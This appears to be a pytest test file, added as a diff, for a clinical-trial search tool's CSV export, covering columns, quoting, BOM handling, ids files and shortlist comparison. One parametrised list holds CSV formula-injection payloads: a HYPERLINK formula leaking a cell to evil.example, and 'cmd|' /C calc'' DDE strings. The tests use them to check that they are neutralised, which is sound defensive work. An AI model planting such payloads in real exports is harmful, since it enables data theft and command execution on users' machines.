@@ -1,0 +1,782 @@
+"""CSV shortlists: columns, quoting, injection safety, BOM, streaming to stdout, ids files,
+comparison with a previous shortlist and the round trip. Every CSV is read back with csv."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+from urllib.parse import urlencode
+
+import pytest
+from click.testing import CliRunner
+from spec_check import check_request, needs_spec
+
+from trialfinder.cli import cli
+from trialfinder.model import parse_study
+from trialfinder.output import BOM, CSV_COLUMNS, trial_record, write_csv
+from trialfinder.pipeline import build_result, to_record
+
+from factories import BOSTON_SITE, make_study
+from fakeapi import FakeApi
+
+DOCUMENTED_COLUMNS = [
+    "nct_id",
+    "title",
+    "status",
+    "phases",
+    "conditions",
+    "categories",
+    "setting",
+    "biomarkers",
+    "interventions",
+    "nearest_site",
+    "nearest_city",
+    "nearest_state",
+    "nearest_country",
+    "distance_mi",
+    "sites_count",
+    "min_age",
+    "max_age",
+    "sex",
+    "central_contact_name",
+    "central_contact_phone",
+    "central_contact_email",
+    "first_posted",
+    "last_updated",
+    "url",
+    "summary",
+    "evidence",
+]
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def csv_text(records, **options) -> str:
+    out = io.StringIO(newline="")
+    write_csv(records, out, **options)
+    return out.getvalue()
+
+
+def record_of(**study) -> dict:
+    return trial_record(parse_study(make_study(**study)))
+
+
+def full_records(studies) -> list[dict]:
+    """The records a search writes for ``studies``: tags, summary and all."""
+    return [to_record(build_result(parse_study(s))) for s in studies]
+
+
+def run(*args: str):
+    return CliRunner().invoke(cli, list(args))
+
+
+# -- columns and values -----------------------------------------------------------------------
+
+
+def test_header_is_the_documented_columns_in_order():
+    text = csv_text([record_of()])
+    assert next(csv.reader(io.StringIO(text))) == DOCUMENTED_COLUMNS
+    assert list(CSV_COLUMNS) == DOCUMENTED_COLUMNS
+
+
+def test_values_come_from_the_record_with_lists_joined():
+    record = record_of(
+        phases=["PHASE1", "PHASE2"],
+        conditions=["Multiple Myeloma", "Plasma Cell Leukemia"],
+        interventions=[
+            {"type": "DRUG", "name": "Teclistamab"},
+            {"type": "DRUG", "name": "Daratumumab"},
+        ],
+        max_age="6 Months",
+        central_contacts=[
+            {"name": "Ana Núñez", "phone": "617-555-0100", "phoneExt": "12", "email": "a@x.org"},
+            {"name": "Second Contact", "phone": "617-555-0199"},
+        ],
+        first_posted="2024-01-15",
+        last_updated="2025-06-01",
+    )
+    (row,) = read_csv(csv_text([record]))
+    assert row["phases"] == "PHASE1; PHASE2"
+    assert row["conditions"] == "Multiple Myeloma; Plasma Cell Leukemia"
+    assert row["interventions"] == "Teclistamab; Daratumumab"
+    assert row["min_age"] == "18" and row["max_age"] == "0.5"
+    assert row["sites_count"] == "1"
+    assert row["central_contact_name"] == "Ana Núñez"
+    assert row["central_contact_phone"] == "617-555-0100 ext. 12"
+    assert row["central_contact_email"] == "a@x.org"
+    assert row["first_posted"] == "2024-01-15" and row["last_updated"] == "2025-06-01"
+    assert row["url"] == "https://clinicaltrials.gov/study/NCT01000001"
+    # Features not computed for this record leave their cells empty.
+    for column in ("categories", "nearest_site", "distance_mi", "summary", "evidence"):
+        assert row[column] == ""
+
+
+def test_record_keeps_central_contact_and_first_posted_for_json():
+    record = record_of(central_contacts=[{"name": "Study Team", "phone": "1", "email": "e@x"}])
+    assert record["first_posted"] == "2024-01-15"
+    assert record["central_contact"]["name"] == "Study Team"
+    assert json.loads(json.dumps(record)) == record
+    assert record_of(central_contacts=[])["central_contact"] is None
+
+
+def test_annotations_fill_tag_location_summary_and_evidence_columns():
+    trial = parse_study(make_study())
+    record = trial_record(
+        trial,
+        {
+            "categories": ["immunotherapy", "combination"],
+            "setting": ["refractory"],
+            "biomarkers": ["BCMA"],
+            "evidence": [
+                {"tag": "immunotherapy", "reason": "immunotherapy: a bispecific antibody"},
+                {"tag": "refractory", "reason": "refractory: the title says refractory"},
+            ],
+            "nearest_site": {
+                "facility": "Dana-Farber Cancer Institute",
+                "city": "Boston",
+                "state": "Massachusetts",
+                "zip": "02215",
+                "country": "United States",
+                "status": "RECRUITING",
+            },
+            "distance_mi": 3.5,
+            "summary": "A study of teclistamab.\nFor adults.",
+        },
+    )
+    (row,) = read_csv(csv_text([record]))
+    assert row["categories"] == "immunotherapy; combination"
+    assert row["setting"] == "refractory" and row["biomarkers"] == "BCMA"
+    assert row["nearest_site"] == "Dana-Farber Cancer Institute"
+    assert (row["nearest_city"], row["nearest_state"], row["nearest_country"]) == (
+        "Boston",
+        "Massachusetts",
+        "United States",
+    )
+    assert row["distance_mi"] == "3.5"
+    assert row["summary"] == "A study of teclistamab.\nFor adults."
+    assert row["evidence"] == (
+        "immunotherapy: a bispecific antibody; refractory: the title says refractory"
+    )
+
+
+# -- opening cleanly --------------------------------------------------------------------------
+
+
+def test_quotes_commas_newlines_and_accents_survive(tmp_path):
+    title = 'Étude "BISPEC-1", phase 2;\nmyélome — ≥ 2 lines\r\nof therapy'
+    studies = [make_study(title=title)]
+    with FakeApi(studies) as api:
+        result = run("--api-url", api.url, "search", "-o", str(tmp_path / "s.csv"))
+    assert result.exit_code == 0, result.output
+    raw = (tmp_path / "s.csv").read_bytes()
+    assert not raw.startswith(BOM.encode())
+    text = raw.decode("utf-8")
+    assert text.endswith("\r\n")
+    (row,) = read_csv(text)
+    assert row["title"] == title
+    # RFC 4180: every field quoted, inner quotes doubled.
+    assert '"Étude ""BISPEC-1"", phase 2;' in text
+
+
+def test_excel_option_writes_a_byte_order_mark(tmp_path):
+    path = tmp_path / "excel.csv"
+    with FakeApi([make_study(title="Myélome réfractaire")]) as api:
+        result = run("--api-url", api.url, "search", "--excel", "-o", str(path))
+        assert result.exit_code == 0, result.output
+        stdout = run("--api-url", api.url, "search", "--excel")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["title"] == "Myélome réfractaire"
+    assert stdout.stdout_bytes.startswith(b"\xef\xbb\xbf")
+
+
+def test_excel_with_another_format_is_a_usage_error():
+    result = run("search", "--excel", "--format", "json")
+    assert result.exit_code == 2
+    assert "--excel writes CSV" in result.stderr
+
+
+# -- safe to open -----------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    ";=1+1",
+    ",@SUM(A1)",
+    '"=1+1',
+]
+
+
+def formula_like(cell: str) -> bool:
+    return cell.lstrip(' \n,;"').startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_titles_and_contact_names_are_neutralised(hostile, tmp_path):
+    study = make_study(
+        title=hostile,
+        central_contacts=[{"name": hostile, "phone": "+1 617-555-0100", "email": "=x@y.org"}],
+        interventions=[{"type": "DRUG", "name": hostile}],
+    )
+    with FakeApi([study]) as api:
+        result = run("--api-url", api.url, "search", "-o", str(tmp_path / "s.csv"))
+    assert result.exit_code == 0, result.output
+    (row,) = read_csv((tmp_path / "s.csv").read_text(encoding="utf-8"))
+    for column in ("title", "central_contact_name", "interventions"):
+        assert row[column] == "'" + hostile.strip()  # the model strips surrounding blanks
+    assert row["central_contact_phone"] == "'+1 617-555-0100"
+    assert row["central_contact_email"] == "'=x@y.org"
+    assert not any(formula_like(cell) for cell in row.values())
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_record_values_are_neutralised_as_given(hostile):
+    record = record_of()
+    record.update(title=hostile, summary=hostile, central_contact={"name": hostile})
+    record["evidence"] = [{"reason": hostile}]
+    (row,) = read_csv(csv_text([record]))
+    for column in ("title", "summary", "central_contact_name", "evidence"):
+        assert row[column] == "'" + hostile
+
+
+def test_numbers_in_numeric_columns_stay_numbers():
+    record = record_of()
+    record.update(distance_mi=-3.5, min_age=0.25, max_age=-1, sites_count=0)
+    (row,) = read_csv(csv_text([record]))
+    assert (row["distance_mi"], row["min_age"], row["max_age"], row["sites_count"]) == (
+        "-3.5",
+        "0.25",
+        "-1",
+        "0",
+    )
+    # A negative number in a text column, or text in a numeric column, is neutralised.
+    record.update(title="-3.5", distance_mi="-1+cmd")
+    (row,) = read_csv(csv_text([record]))
+    assert row["title"] == "'-3.5" and row["distance_mi"] == "'-1+cmd"
+
+
+def test_safe_text_is_left_alone():
+    record = record_of(title="Phase 2 of drug X - a study; 50% respond = good")
+    (row,) = read_csv(csv_text([record]))
+    assert row["title"] == "Phase 2 of drug X - a study; 50% respond = good"
+
+
+# -- streaming --------------------------------------------------------------------------------
+
+
+def test_stdout_holds_nothing_but_the_csv():
+    studies = [make_study(nct_id=f"NCT0100000{n}", title=f"Trial {n}") for n in range(1, 6)]
+    with FakeApi(studies) as api:
+        result = run("--api-url", api.url, "search", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    stdout = result.stdout_bytes.decode("utf-8")  # .stdout would turn CRLF into LF
+    rows = list(csv.reader(io.StringIO(stdout, newline="")))
+    assert rows[0] == DOCUMENTED_COLUMNS
+    assert [r[0] for r in rows[1:]] == [f"NCT0100000{n}" for n in range(1, 6)]
+    assert all(len(r) == len(DOCUMENTED_COLUMNS) for r in rows)
+    assert stdout == csv_text(full_records(studies))  # byte for byte: nothing else mixed in
+    assert "5 trials matched" in result.stderr
+
+
+def test_write_csv_consumes_records_lazily():
+    seen = []
+
+    def records():
+        for n in range(3):
+            seen.append(n)
+            yield record_of(nct_id=f"NCT0100000{n + 1}")
+
+    out = io.StringIO()
+    lines_when_pulled = []
+
+    class Spy(io.StringIO):
+        def write(self, text):
+            lines_when_pulled.append(len(seen))
+            return super().write(text)
+
+    out = Spy()
+    assert write_csv(records(), out) == 3
+    # Each row is written before the next record is produced.
+    assert lines_when_pulled[:4] == [0, 1, 2, 3]
+
+
+# -- ids files --------------------------------------------------------------------------------
+
+
+def studies_1_to(count: int, **overrides) -> list[dict]:
+    return [
+        make_study(nct_id=f"NCT{1000000 + n:08d}", title=f"Trial {n}", **overrides)
+        for n in range(1, count + 1)
+    ]
+
+
+def test_ids_file_fetches_exactly_those_trials_in_one_query(tmp_path):
+    ids_file = tmp_path / "ids.txt"
+    ids_file.write_text(
+        "# my shortlist\n\nNCT01000002\n  nct1000004   # seen in clinic\nNCT01000002\n"
+        "NCT09999999\n",
+        encoding="utf-8",
+    )
+    with FakeApi(studies_1_to(5)) as api:
+        result = run("--api-url", api.url, "search", "--ids-file", str(ids_file), "--format", "csv")
+        requests = api.studies_requests()
+    assert result.exit_code == 0, result.output
+    assert [r["nct_id"] for r in read_csv(result.stdout)] == ["NCT01000002", "NCT01000004"]
+    (request,) = requests
+    assert request.params["filter.ids"] == "NCT01000002|NCT01000004|NCT09999999"
+    # The default status, setting and cancer restrictions would hide listed trials.
+    for default_filter in ("filter.overallStatus", "query.term", "filter.advanced"):
+        assert default_filter not in request.params
+    missing = [line for line in result.stderr.splitlines() if "not found" in line]
+    assert missing == ["trialfinder: 1 NCT id(s) not found: NCT09999999"]
+
+
+def test_ids_file_keeps_filters_the_user_asked_for(tmp_path):
+    ids_file = tmp_path / "ids.txt"
+    ids_file.write_text("NCT01000001\n", encoding="utf-8")
+    with FakeApi(studies_1_to(1)) as api:
+        result = run(
+            "--api-url",
+            api.url,
+            "search",
+            "--ids-file",
+            str(ids_file),
+            "--status",
+            "recruiting",
+            "--phase",
+            "2",
+            "--format",
+            "csv",
+        )
+        (request,) = api.studies_requests()
+    assert result.exit_code == 0, result.output
+    assert request.params["filter.overallStatus"] == "RECRUITING"
+    assert request.params["filter.advanced"] == "(AREA[Phase]PHASE2)"
+
+
+def test_malformed_id_is_a_usage_error_naming_the_line(tmp_path):
+    ids_file = tmp_path / "ids.txt"
+    ids_file.write_text("NCT01000001\n# fine\nNCT-12\n", encoding="utf-8")
+    result = run("search", "--ids-file", str(ids_file))
+    assert result.exit_code == 2
+    assert f"{ids_file}, line 3: 'NCT-12' is not an NCT id" in result.stderr
+    assert "Traceback" not in result.output
+
+
+def test_empty_ids_file_is_a_usage_error(tmp_path):
+    ids_file = tmp_path / "ids.txt"
+    ids_file.write_text("# nothing yet\n\n", encoding="utf-8")
+    result = run("search", "--ids-file", str(ids_file))
+    assert result.exit_code == 2
+    assert "lists no NCT ids" in result.stderr
+
+
+def test_more_than_a_query_of_ids_is_paged(tmp_path, monkeypatch):
+    from trialfinder.sources import ctgov
+
+    monkeypatch.setattr(ctgov, "MAX_IDS_PER_QUERY", 2)
+    ids_file = tmp_path / "ids.txt"
+    ids_file.write_text(
+        "\n".join(f"NCT{1000000 + n:08d}" for n in (1, 2, 3, 4, 5, 9)), encoding="utf-8"
+    )
+    with FakeApi(studies_1_to(5)) as api:
+        result = run("--api-url", api.url, "search", "--ids-file", str(ids_file), "--format", "csv")
+        requests = api.studies_requests()
+    assert result.exit_code == 0, result.output
+    assert [r.params["filter.ids"] for r in requests] == [
+        "NCT01000001|NCT01000002",
+        "NCT01000003|NCT01000004",
+        "NCT01000005|NCT01000009",
+    ]
+    assert len(read_csv(result.stdout)) == 5
+    assert "5 trials matched; 5 shown." in result.stderr
+    assert "1 NCT id(s) not found: NCT01000009" in result.stderr
+
+
+@needs_spec
+def test_a_thousand_and_one_ids_take_two_valid_queries(tmp_path):
+    ids = [f"NCT{2000000 + n:08d}" for n in range(1001)]
+    ids_file = tmp_path / "ids.txt"
+    ids_file.write_text("\n".join(ids), encoding="utf-8")
+    studies = [make_study(nct_id=ids[0]), make_study(nct_id=ids[-1])]
+    with FakeApi(studies) as api:
+        result = run(
+            "--api-url",
+            api.url,
+            "search",
+            "--ids-file",
+            str(ids_file),
+            "-o",
+            str(tmp_path / "x.csv"),
+        )
+        requests = api.studies_requests()
+    assert result.exit_code == 0, result.output
+    assert [len(r.params["filter.ids"].split("|")) for r in requests] == [1000, 1]
+    for request in requests:
+        check_request(f"{api.url}/studies?{urlencode(request.params)}")
+    assert "999 NCT id(s) not found" in result.stderr
+
+
+# -- the round trip and comparisons -----------------------------------------------------------
+
+
+def test_round_trip_shortlist_read_back_gives_the_same_rows(tmp_path):
+    first, second = tmp_path / "week1.csv", tmp_path / "week1-again.csv"
+    hostile = make_study(
+        nct_id="NCT01000009",
+        title='=cmd "quoted", with\nnewline',
+        central_contacts=[{"name": "@someone", "phone": "+1 555", "email": "x@y"}],
+    )
+    with FakeApi([*studies_1_to(4), hostile]) as api:
+        result = run("--api-url", api.url, "search", "--limit", "3", "-o", str(first))
+        assert result.exit_code == 0, result.output
+        # Only the shortlisted trials come back, not every trial the server has.
+        result = run(
+            "--api-url", api.url, "search", "--ids-file", str(first), "--excel", "-o", str(second)
+        )
+        assert result.exit_code == 0, result.output
+    written = read_csv(first.read_text(encoding="utf-8"))
+    assert [r["nct_id"] for r in written] == ["NCT01000001", "NCT01000002", "NCT01000003"]
+    assert read_csv(second.read_text(encoding="utf-8-sig")) == written
+    assert "not found" not in result.stderr
+
+
+def test_round_trip_keeps_hostile_cells_identical(tmp_path):
+    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
+    hostile = make_study(
+        nct_id="NCT01000009",
+        title='=cmd "quoted", with\nnewline',
+        central_contacts=[{"name": "@someone", "phone": "+1 555", "email": "x@y"}],
+    )
+    with FakeApi([hostile]) as api:
+        assert run("--api-url", api.url, "search", "-o", str(first)).exit_code == 0
+        result = run("--api-url", api.url, "search", "--ids-file", str(first), "-o", str(second))
+    assert result.exit_code == 0, result.output
+    assert second.read_bytes() == first.read_bytes()
+
+
+def test_compare_marks_new_updated_unchanged_and_dropped(tmp_path):
+    old_path, new_path = tmp_path / "old.csv", tmp_path / "new.csv"
+    before = [
+        make_study(nct_id="NCT01000001", status="NOT_YET_RECRUITING", last_updated="2025-05-01"),
+        make_study(nct_id="NCT01000002", last_updated="2025-05-01"),
+        make_study(nct_id="NCT01000003", title="Gone next week", last_updated="2025-05-01"),
+    ]
+    after = [
+        make_study(nct_id="NCT01000001", status="RECRUITING", last_updated="2025-06-01"),
+        make_study(nct_id="NCT01000002", last_updated="2025-05-01"),
+        make_study(nct_id="NCT01000004", last_updated="2025-06-01"),
+    ]
+    with FakeApi(before) as api:
+        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
+    with FakeApi(after) as api:
+        result = run(
+            "--api-url", api.url, "search", "--compare", str(old_path), "-o", str(new_path)
+        )
+    assert result.exit_code == 0, result.output
+    text = new_path.read_text(encoding="utf-8")
+    assert next(csv.reader(io.StringIO(text))) == ["change", *DOCUMENTED_COLUMNS]
+    rows = read_csv(text)
+    assert [(r["change"], r["nct_id"]) for r in rows] == [
+        ("updated: status Not yet recruiting -> Recruiting", "NCT01000001"),
+        ("unchanged", "NCT01000002"),
+        ("new", "NCT01000004"),
+        ("dropped", "NCT01000003"),
+    ]
+    dropped = rows[-1]
+    old_row = next(r for r in read_csv(old_path.read_text("utf-8")) if r["nct_id"] == "NCT01000003")
+    assert {k: v for k, v in dropped.items() if k != "change"} == old_row
+    assert "3 trials matched; 3 shown." in result.stderr
+
+
+def test_compare_against_itself_is_all_unchanged_and_a_compared_list_reads_back(tmp_path):
+    first, compared, again = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.csv"
+    with FakeApi(studies_1_to(3)) as api:
+        assert run("--api-url", api.url, "search", "-o", str(first)).exit_code == 0
+        args = ("--api-url", api.url, "search", "--ids-file", str(first))
+        assert run(*args, "--compare", str(first), "-o", str(compared)).exit_code == 0
+        api.studies = api.studies[:2]
+        result = run(
+            "--api-url",
+            api.url,
+            "search",
+            "--ids-file",
+            str(compared),
+            "--compare",
+            str(compared),
+            "-o",
+            str(again),
+        )
+    assert result.exit_code == 0, result.output
+    assert {r["change"] for r in read_csv(compared.read_text("utf-8"))} == {"unchanged"}
+    rows = read_csv(again.read_text("utf-8"))
+    assert [(r["change"], r["nct_id"]) for r in rows] == [
+        ("unchanged", "NCT01000001"),
+        ("unchanged", "NCT01000002"),
+        ("dropped", "NCT01000003"),
+    ]
+    assert "1 NCT id(s) not found: NCT01000003" in result.stderr
+
+
+def test_compare_with_a_file_that_is_not_a_shortlist_is_a_usage_error(tmp_path):
+    path = tmp_path / "notes.csv"
+    path.write_text("name,phone\nAna,1\n", encoding="utf-8")
+    result = run("search", "--compare", str(path))
+    assert result.exit_code == 2
+    assert "is not a trialfinder shortlist" in result.stderr
+
+
+def test_compare_with_json_output_is_a_usage_error(tmp_path):
+    path = tmp_path / "old.csv"
+    path.write_text("nct_id\nNCT01000001\n", encoding="utf-8")
+    result = run("search", "--compare", str(path), "--format", "json")
+    assert result.exit_code == 2
+    assert "--compare writes CSV" in result.stderr
+
+
+# -- the shortlist library --------------------------------------------------------------------
+
+
+def test_change_says_what_moved_where_the_old_row_shows_it():
+    from trialfinder.shortlist import change_of
+
+    old = {
+        "status": "RECRUITING",
+        "phases": "PHASE1",
+        "nearest_site": "Site A",
+        "nearest_city": "Boston",
+        "nearest_state": "Massachusetts",
+        "last_updated": "2025-05-01",
+    }
+    new = {
+        **old,
+        "status": "ACTIVE_NOT_RECRUITING",
+        "phases": "PHASE1; PHASE2",
+        "nearest_site": "Site B",
+        "nearest_city": "Worcester",
+        "last_updated": "2025-06-01",
+    }
+    assert change_of(new, old) == (
+        "updated: status Recruiting -> Active not recruiting; phase Phase 1 -> Phase 1/2; "
+        "nearest site Site A (Boston, Massachusetts) -> Site B (Worcester, Massachusetts)"
+    )
+    # Nothing the old row shows changed: say that the date moved.
+    assert change_of({**old, "last_updated": "2025-06-01"}, old) == (
+        "updated: last updated 2025-05-01 -> 2025-06-01"
+    )
+    # The old row did not show a nearest site (no --near then): not a change of the trial.
+    assert (
+        change_of(
+            {**new, "status": "RECRUITING", "phases": "PHASE1"},
+            {
+                **old,
+                "nearest_site": "",
+            },
+        )
+        == "updated: last updated 2025-05-01 -> 2025-06-01"
+    )
+    assert change_of(new, None) == "new"
+    assert change_of(old, dict(old)) == "unchanged"
+
+
+def test_read_ids_from_a_compared_excel_shortlist_skips_dropped_rows(tmp_path):
+    from trialfinder.shortlist import read_ids, read_shortlist
+
+    path = tmp_path / "compared.csv"
+    rows = [
+        ["change", "nct_id", "title", "last_updated"],
+        ["new", "NCT01000002", "Two,\nlines", "2025-06-01"],
+        ["unchanged", "nct1000001", "One", "2025-05-01"],
+        ["dropped", "NCT01000003", "Three", "2025-05-01"],
+    ]
+    with path.open("w", encoding="utf-8-sig", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    assert read_ids(path) == ["NCT01000002", "NCT01000001"]
+    shortlist = read_shortlist(path)
+    assert list(shortlist) == ["NCT01000002", "NCT01000001"]
+    assert shortlist["NCT01000002"]["title"] == "Two,\nlines"
+    assert shortlist["NCT01000001"]["status"] == ""  # a column the old file lacked
+
+
+def test_bad_id_inside_a_shortlist_names_its_line(tmp_path):
+    from trialfinder.errors import InvalidInput
+    from trialfinder.shortlist import read_ids
+
+    path = tmp_path / "old.csv"
+    path.write_text('nct_id,title\nNCT01000001,"two\nlines"\nNCT0X,bad\n', encoding="utf-8")
+    with pytest.raises(InvalidInput, match=r"line 4: 'NCT0X' is not an NCT id"):
+        read_ids(path)
+
+
+def test_file_that_is_not_utf8_is_a_usage_error(tmp_path):
+    path = tmp_path / "ids.txt"
+    path.write_bytes("NCT01000001 # é\n".encode("latin-1"))
+    result = run("search", "--ids-file", str(path))
+    assert result.exit_code == 2
+    assert "is not UTF-8 text" in result.stderr
+
+
+# -- columns filled by the other features -----------------------------------------------------
+
+NEW_YORK_SITE = {
+    "facility": "Memorial Sloan Kettering",
+    "status": "RECRUITING",
+    "city": "New York",
+    "state": "New York",
+    "zip": "10065",
+    "country": "United States",
+    "geoPoint": {"lat": 40.71427, "lon": -74.00597},
+}
+
+
+def test_near_fills_the_nearest_site_and_distance_columns(tmp_path):
+    path = tmp_path / "near.csv"
+    studies = [make_study(locations=[NEW_YORK_SITE, BOSTON_SITE])]
+    with FakeApi(studies) as api:
+        result = run("--api-url", api.url, "search", "--near", "02115", "-o", str(path))
+    assert result.exit_code == 0, result.output
+    (row,) = read_csv(path.read_text(encoding="utf-8"))
+    assert row["nearest_site"] == "Dana-Farber Cancer Institute"
+    assert (row["nearest_city"], row["nearest_state"], row["nearest_country"]) == (
+        "Boston",
+        "Massachusetts",
+        "United States",
+    )
+    distance = float(row["distance_mi"])
+    assert 0 < distance < 5 and row["distance_mi"] == f"{distance:g}"
+    assert row["sites_count"] == "2"
+
+
+def test_compare_names_a_new_nearest_site(tmp_path):
+    old_path, new_path = tmp_path / "old.csv", tmp_path / "new.csv"
+    before = [make_study(locations=[NEW_YORK_SITE], last_updated="2025-05-01")]
+    after = [make_study(locations=[NEW_YORK_SITE, BOSTON_SITE], last_updated="2025-06-01")]
+    with FakeApi(before) as api:
+        result = run("--api-url", api.url, "search", "--near", "02115", "-o", str(old_path))
+        assert result.exit_code == 0, result.output
+        api.studies = after
+        result = run(
+            "--api-url",
+            api.url,
+            "search",
+            "--near",
+            "02115",
+            "--ids-file",
+            str(old_path),
+            "--compare",
+            str(old_path),
+            "-o",
+            str(new_path),
+        )
+    assert result.exit_code == 0, result.output
+    (row,) = read_csv(new_path.read_text(encoding="utf-8"))
+    assert row["change"] == (
+        "updated: nearest site Memorial Sloan Kettering (New York, New York) -> "
+        "Dana-Farber Cancer Institute (Boston, Massachusetts)"
+    )
+
+
+@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs a pseudo-terminal")
+def test_progress_goes_to_a_terminal_stderr_and_stdout_stays_pure_csv(fake_api):
+    fake_api.studies = studies_1_to(30)
+    controller, terminal = os.openpty()
+    try:
+        process = subprocess.run(
+            [sys.executable, "-m", "trialfinder", "search", "--format", "csv", "--limit", "0"],
+            stdout=subprocess.PIPE,
+            stderr=terminal,
+            env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "100"},
+            timeout=60,
+        )
+        os.close(terminal)
+        terminal = None
+        shown = b""
+        with contextlib.suppress(OSError):  # EIO once everything written has been read
+            while chunk := os.read(controller, 65536):
+                shown += chunk
+    finally:
+        if terminal is not None:
+            os.close(terminal)
+        os.close(controller)
+    assert process.returncode == 0, shown.decode(errors="replace")
+    stdout = process.stdout.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(stdout, newline="")))
+    assert rows[0] == DOCUMENTED_COLUMNS and len(rows) == 31
+    assert stdout == csv_text(full_records(fake_api.studies))
+    assert b"Fetching trials" in shown  # the progress bar, on the terminal only
+    assert b"30 trials matched" in shown
+
+
+def test_compare_warns_when_a_limit_cut_the_results(tmp_path):
+    old_path, new_path = tmp_path / "old.csv", tmp_path / "new.csv"
+    with FakeApi(studies_1_to(3)) as api:
+        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
+        result = run(
+            "--api-url",
+            api.url,
+            "search",
+            "--limit",
+            "2",
+            "--compare",
+            str(old_path),
+            "-o",
+            str(new_path),
+        )
+    assert result.exit_code == 0, result.output
+    rows = read_csv(new_path.read_text("utf-8"))
+    assert [r["change"] for r in rows] == ["unchanged", "unchanged", "dropped"]
+    assert (
+        "--limit showed 2 trials, there may be more; trials beyond it are marked dropped"
+        in result.stderr
+    )
+
+
+def test_shortlist_with_comment_lines_above_its_header_counts_lines_from_the_top(tmp_path):
+    from trialfinder.errors import InvalidInput
+    from trialfinder.shortlist import read_ids
+
+    path = tmp_path / "annotated.csv"
+    path.write_text("# week 12\n\nnct_id,title\nNCT01000001,A\nbad,B\n", encoding="utf-8")
+    with pytest.raises(InvalidInput, match=r"line 5: 'bad' is not an NCT id"):
+        read_ids(path)
+    path.write_text("# week 12\n\nnct_id,title\nNCT01000001,A\n", encoding="utf-8")
+    assert read_ids(path) == ["NCT01000001"]
+
+
+def test_search_fills_the_tag_summary_and_evidence_columns(tmp_path):
+    from trialfinder.summary import summarize
+    from trialfinder.tagging import tag_trial
+
+    path = tmp_path / "tagged.csv"
+    study = make_study(
+        title="Axicabtagene Ciloleucel in Relapsed or Refractory Large B-Cell Lymphoma",
+        conditions=["Large B-cell Lymphoma"],
+        interventions=[{"type": "BIOLOGICAL", "name": "Axicabtagene Ciloleucel"}],
+    )
+    with FakeApi([study]) as api:
+        result = run("--api-url", api.url, "search", "-o", str(path))
+    assert result.exit_code == 0, result.output
+    (row,) = read_csv(path.read_text(encoding="utf-8"))
+    trial = parse_study(study)
+    tags = tag_trial(trial)
+    assert "car-t" in row["categories"].split("; ")
+    assert row["categories"] == "; ".join(tags.categories)
+    assert row["setting"] == "; ".join(tags.settings) and "refractory" in row["setting"]
+    reasons = [e.reason for e in tags.evidence]
+    assert any(r.startswith("car-t: ") for r in reasons)
+    assert row["evidence"] == "; ".join(reasons)
+    assert row["summary"] and row["summary"] == summarize(trial, tags=tags)
